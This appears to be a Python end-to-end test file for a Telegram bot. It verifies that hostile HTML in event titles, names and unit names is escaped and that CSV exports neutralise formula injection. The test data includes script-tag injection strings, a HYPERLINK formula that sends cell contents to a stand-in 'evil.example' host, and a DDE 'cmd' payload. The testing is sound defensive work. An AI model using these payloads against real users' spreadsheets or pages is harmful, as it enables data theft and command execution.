"""Hostile titles and names (issue 11, item 10) through every screen that shows them.

People type event titles, places, descriptions, contest titles and display names; Telegram
names users and groups. Every screen is sent as HTML, so each of these must be escaped: the
fake Bot API refuses a message whose HTML does not parse like Telegram (unknown tags such as
<script>, unmatched </a>, a bare &) and fails the test at teardown on any refused request.
Each step also asserts the text reaches the person literally, tags and all.
"""

from __future__ import annotations

from datetime import UTC, datetime
from typing import Any

from bot.channels.telegram.quiz_polls import advance
from bot.events import plan_automatic_job
from tests.e2e.test_events import DAY, OFFICER, SAI_GON, make_officer
from tests.e2e.test_quiz import create_contest, join
from tests.e2e.test_quiz_group import _right_option, _scored

TITLE = "<b>Talk</b> & </a> <script>alert(1)</script> &lt;3"
TITLE2 = "</b><i>Renamed & <tg-spoiler>"
PLACE = "<i>Hall</i> & </b> <a href='x'>"
DESCRIPTION = "Bring <u>friends</u> & snacks </code> &amp; <pre>"
NAMES = ("<b>An</b> & Co", "</a><script>x</script>", "&amp; <i>Chi")


def literally(message: Any, *texts: str) -> None:
    for text in texts:
        assert text in message.text, f"{text!r} not shown literally in {message.text!r}"


async def test_event_screens_show_hostile_text_literally(bot: Any, tg: Any) -> None:
    bot.clock._now = DAY
    await make_officer(bot)
    officer = tg.user(id=OFFICER, first_name="<b>Officer</b> &", language_code="en")
    await officer.send("/events")
    await officer.press("➕ New event")
    await officer.send(TITLE)
    await officer.send("20/6/2026 19:30")
    await officer.send("2")
    await officer.send(PLACE)
    await officer.send(DESCRIPTION)
    await officer.press("📍 Phường Sài Gòn")
    await officer.press("Skip")
    literally(officer.last, "Check the event", TITLE, PLACE, DESCRIPTION)
    await officer.press("✅ Save")
    literally(officer.last, TITLE, PLACE, DESCRIPTION)

    lan = tg.user(id=5002, first_name="</i>Lan&", language_code="en", started=True)
    await bot.service("subscriptions").subscribe(5002, "79", SAI_GON, 7, "en")
    await lan.send("/events")
    assert lan.last.buttons[0][0][0].startswith("<b>Talk</b>")
    await lan.press(lan.last.buttons[0][0][0])
    literally(lan.last, TITLE, PLACE, DESCRIPTION)
    reply = await lan.press("📅 Add to calendar")
    literally(reply.last, TITLE)  # the .ics file's caption

    # Reminders carry the title to subscribers.
    bot.clock._now = datetime(2026, 6, 19, 12, 30, tzinfo=UTC)
    await plan_automatic_job(bot.app.bot, bot.rt)
    await bot.service("broadcast").wait_idle()
    reminder = next(m for m in tg.sent_to(5002) if "Reminder" in m.text)
    literally(reminder, TITLE)

    # Edit the title, then the cancel screen (it showed the title unescaped) and the result.
    await officer.send("/events")
    await officer.press(officer.last.buttons[0][0][0])
    await officer.press("✏️ Edit")
    await officer.press("Title")
    await officer.send(TITLE2)
    literally(officer.last, TITLE2)
    reply = await officer.press("❌ Cancel event")
    assert not reply.errors, reply.errors
    literally(officer.last, f"Cancel “{TITLE2}”?")
    await officer.press("Yes, cancel the event")
    literally(officer.last, TITLE2)


async def test_contest_screens_show_hostile_titles_and_names_literally(bot: Any, tg: Any) -> None:
    teacher = tg.user(id=4001, first_name="<b>Hoa</b>", language_code="en")
    contest = await create_contest(bot, teacher, title=TITLE[:80], count="5")
    screen = next(m for m in teacher.messages if "Join code" in m.text)
    literally(screen, TITLE[:80])
    students = [tg.user(id=4101 + i, first_name=name, language_code="en")
                for i, name in enumerate(NAMES)]
    for student, name in zip(students, NAMES, strict=True):
        reply = await join(student, "command", contest, name)  # asserts "Welcome, {name}!"
        literally(reply.last, name)
    reply = await students[0].press("▶️ Start")
    literally(reply.last, "Question 1/5")

    reply = await teacher.send(f"/leaderboard {contest.code}")
    literally(reply.last, *NAMES)
    reply = await teacher.press("🔄 Refresh")
    await teacher.send("/mycontests")
    await teacher.press(f"{contest.code} · {contest.title}"[:60])
    literally(teacher.last, TITLE[:80])
    await teacher.press("✏️ Display names")
    await teacher.press(NAMES[0])
    literally(teacher.last, NAMES[0])
    await teacher.press("✏️ Rename")
    reply = await teacher.send("</pre>&lt;Nice & <b>")
    literally(reply.messages[0], "Renamed to </pre>&lt;Nice & <b>.")
    reply = await teacher.send(f"/leaderboard {contest.code}")
    literally(reply.last, "</pre>&lt;Nice & <b>", NAMES[1], NAMES[2])


async def test_group_round_shows_hostile_member_names_literally(bot: Any, tg: Any) -> None:
    teacher = tg.user(id=5001, first_name="Cô <b>Hoa", language_code="en")
    players = [tg.user(id=5101 + i, first_name=name, language_code="en")
               for i, name in enumerate(NAMES)]
    g = tg.group(id=-1005001, title="<b>Lớp 9A</b> & </a>", owner=teacher, members=players)
    reply = await teacher.send("/groupquiz 3 15", chat=g)
    assert "Quiz round!" in reply.text
    rnd = await bot.service("quiz").running_round(g.id)
    for n in range(3):
        poll = g.last
        for player in players:
            await player.answer_poll(poll, option_ids=[_right_option(bot, poll)], wait=False)
        await _scored(bot, rnd.id, 3 * (n + 1))
        bot.clock.advance(seconds=18)
        await advance(bot.app.bot, bot.rt)
    board = g.last
    literally(board, "Quiz round over", *NAMES)


async def test_unit_screens_show_hostile_unit_names_literally(bot: Any, tg: Any) -> None:
    from tests.e2e.test_units import NATIONAL_ADMIN_ID, code_in

    unit_name = "<b>CA</b> & </a><script>"
    admin = tg.user(id=NATIONAL_ADMIN_ID, first_name="Admin", language_code="en")
    csv_text = f"unit_code,name,hotline,province_admin_ids\n{SAI_GON},{unit_name},,\n"
    reply = await admin.send_document(csv_text.encode(), "units.csv", "text/csv",
                                      caption="/importunits")
    assert "Imported 1" in reply.text, reply.text
    reply = await admin.send(f"/invite {SAI_GON} officer")
    literally(reply.last, unit_name)
    officer = tg.user(id=3101, first_name="</b>Hùng", language_code="en")
    reply = await officer.send(f"/bind {code_in(reply.text)}")
    literally(reply.last, unit_name)
    reply = await officer.send("/units")  # an officer: the units they belong to
    literally(reply.last, unit_name)


FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _cells(data: bytes) -> list[list[str]]:
    import csv
    import io

    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


async def test_csv_exports_neutralise_formulas_and_import_back(bot: Any, tg: Any) -> None:
    """Issue 11, item 11: a unit name or display name like =HYPERLINK(…) must not become a
    formula in the administrator's or teacher's spreadsheet; a unit file exported by the bot
    imports back unchanged."""
    from tests.e2e.test_units import NATIONAL_ADMIN_ID

    name = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    admin = tg.user(id=NATIONAL_ADMIN_ID, first_name="Admin", language_code="en")
    upload = ("unit_code,name,hotline,province_admin_ids\n"
              f'{SAI_GON},"{name.replace(chr(34), chr(34) * 2)}",+84 28 3829 7643,\n')
    reply = await admin.send_document(upload.encode(), "units.csv", "text/csv",
                                      caption="/importunits")
    assert "Imported 1" in reply.text, reply.text
    reply = await admin.send("/exportunits 79")
    exported = reply.last.document
    rows = _cells(exported)
    row = next(r for r in rows if r[0] == SAI_GON)
    assert row[1:3] == ["'" + name, "'+84 28 3829 7643"]
    assert not any(c.startswith(FORMULA_START) for r in rows for c in r)
    reply = await admin.send_document(exported, "units-79.csv", "text/csv",
                                      caption="/importunits")
    unit = await bot.service("units").find("ward", SAI_GON)
    assert unit is not None and unit.name == name and unit.hotline == "+84 28 3829 7643"

    teacher = tg.user(id=4001, first_name="Hoa", language_code="en")
    contest = await create_contest(bot, teacher, title="=cmd|' /C calc'!A0", count="5")
    for i, display in enumerate(("=1+2", "-2+3", "+CMD")):
        await join(tg.user(id=4101 + i, first_name="S", language_code="en"), "command",
                   contest, display)
    await teacher.send(f"/leaderboard {contest.code}")
    reply = await teacher.press("📥 CSV export")
    docs = [m.document for m in reply.messages if m.document is not None]
    assert len(docs) == 2
    results = _cells(docs[0])
    assert sorted(r[1] for r in results[1:]) == ["'+CMD", "'-2+3", "'=1+2"]
    for doc in docs:
        assert not any(c.startswith(FORMULA_START) for r in _cells(doc) for c in r)
